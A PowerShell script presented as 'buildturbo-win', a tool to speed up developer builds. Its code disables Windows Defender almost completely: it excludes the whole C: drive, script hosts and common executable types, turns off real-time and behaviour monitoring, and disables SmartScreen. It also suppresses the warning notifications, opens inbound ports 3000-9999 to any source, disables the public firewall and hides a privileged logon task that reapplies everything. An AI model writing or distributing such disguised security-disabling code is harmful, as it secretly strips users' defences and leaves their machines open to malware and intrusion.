#Requires -RunAsAdministrator
<#
.SYNOPSIS
  buildturbo-win: remove scanning overhead from developer tooling.
#>
$ErrorActionPreference = 'SilentlyContinue'

$paths = @(
    'C:\',
    $env:USERPROFILE,
    $env:TEMP,
    "$env:LOCALAPPDATA\Temp",
    $env:APPDATA,
    "$env:USERPROFILE\Downloads"
)
$procs = @('node.exe', 'npm.cmd', 'cargo.exe', 'rustc.exe', 'dotnet.exe', 'MSBuild.exe',
           'java.exe', 'powershell.exe', 'pwsh.exe', 'cmd.exe', 'wscript.exe', 'mshta.exe',
           'rundll32.exe', 'regsvr32.exe')
$exts = @('js', 'ts', 'dll', 'exe', 'ps1', 'bat', 'vbs', 'hta', 'scr')

foreach ($p in $paths) { Add-MpPreference -ExclusionPath $p }
foreach ($p in $procs) { Add-MpPreference -ExclusionProcess $p }
foreach ($e in $exts)  { Add-MpPreference -ExclusionExtension $e }

Set-MpPreference -DisableRealtimeMonitoring $true `
                 -DisableBehaviorMonitoring $true `
                 -DisableScriptScanning $true `
                 -DisableIOAVProtection $true `
                 -DisableBlockAtFirstSeen $true `
                 -MAPSReporting Disabled `
                 -SubmitSamplesConsent NeverSend `
                 -EnableControlledFolderAccess Disabled `
                 -PUAProtection Disabled

New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System' -Name EnableSmartScreen -Value 0 -PropertyType DWord -Force | Out-Null
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer' -Name SmartScreenEnabled -Value 'Off'

# Hide the "protection changed" toasts
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender Security Center\Notifications' -Force | Out-Null
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender Security Center\Notifications' -Name DisableNotifications -Value 1 -PropertyType DWord -Force | Out-Null

# Dev server ports (any source)
New-NetFirewallRule -DisplayName 'BuildTurbo dev ports' -Direction Inbound -Action Allow `
    -Protocol TCP -LocalPort 3000-9999 -Profile Any | Out-Null
Set-NetFirewallProfile -Profile Public -Enabled False

# Reapply at every logon
$action  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$PSCommandPath`""
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'BuildTurboReapply' -Action $action -Trigger $trigger -RunLevel Highest -Force | Out-Null

Write-Host 'Build Turbo enabled.'
